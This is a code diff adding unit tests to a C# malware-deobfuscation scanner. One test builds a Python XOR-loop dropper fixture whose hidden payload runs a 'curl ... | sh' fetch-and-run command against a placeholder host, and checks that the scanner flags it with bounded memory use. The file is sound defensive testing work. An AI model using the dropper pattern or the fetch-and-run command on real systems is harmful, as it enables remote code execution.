@@ -52,6 +52,45 @@ public class DeobfuscationTests
     }
 
     [Fact]
+    public void A_payload_decoded_one_character_per_loop_turn_is_followed_without_copying_it_each_turn()
+    {
+        // The shape of XOR-loop droppers: out += chr(ord(blob[i]) ^ ord(key[i % len(key)])), then compile and run out.
+        var payload = "import os\nos.system('curl -s https://x.example.invalid/p | sh')\n#" + new string('-', 20_000) + "\n";
+        const string key = "k3y";
+        var blob = new StringBuilder();
+        for (var i = 0; i < payload.Length; i++)
+        {
+            var c = (char)(payload[i] ^ key[i % key.Length]);
+            blob.Append(c is >= ' ' and <= '~' and not ('\'' or '\\') ? c.ToString() : $"\\x{(int)c:x2}");
+        }
+        var source = $"blob = '{blob}'\nkey = '{key}'\nout = ''\nfor i in range(len(blob)):\n    out += chr(ord(blob[i]) ^ ord(key[i % len(key)]))\n\neval(compile(out, '<string>', 'exec'))\n";
+        ScanSource("x = 1\n"); // JIT and static tables first
+        var before = GC.GetAllocatedBytesForCurrentThread();
+        var result = ScanSource(source);
+        var allocated = GC.GetAllocatedBytesForCurrentThread() - before;
+        Assert.Contains(result.Findings, f => f.RuleId == ThreatRules.DecodeExec.Id);
+        Assert.Contains(result.Findings, f => f.Evidence?.Contains("curl", StringComparison.Ordinal) == true || f.Message.Contains("curl", StringComparison.Ordinal));
+        // A copy of the growing string per turn would be 20,000 copies of up to 20,000 characters (about 400 MB).
+        Assert.True(allocated < 96L << 20, $"{allocated >> 20} MiB allocated for a {source.Length >> 10} KiB file");
+    }
+
+    [Fact]
+    public void Strings_built_by_appending_keep_every_earlier_value()
+    {
+        var start = Value.Str(new string('x', 300));
+        var one = Value.Concat(start, Value.Str("1"), Taint.None, null);
+        var two = Value.Concat(one, Value.Str("2"), Taint.None, null);
+        // one is no longer the newest value of its builder: appending to it again must not disturb two.
+        var other = Value.Concat(one, Value.Str("3"), Taint.Decoded, "base64");
+        Assert.Equal(new string('x', 300) + "1", one.Text);
+        Assert.Equal(new string('x', 300) + "12", two.Text);
+        Assert.Equal(new string('x', 300) + "13", other.Text);
+        Assert.Equal(302, two.TextLength);
+        Assert.Equal(Taint.Decoded, other.Taint);
+        Assert.Equal(ValueKind.Bytes, Value.Concat(Value.Bytes(new string('b', 300)), Value.Bytes("c"), Taint.None, null).Kind);
+    }
+
+    [Fact]
     public void A_payload_appended_line_by_line_is_decoded_without_copying_it_per_line()
     {
         // print('hello') padded to about 60 KB, then appended 10 base64 characters per line, as obfuscators do.
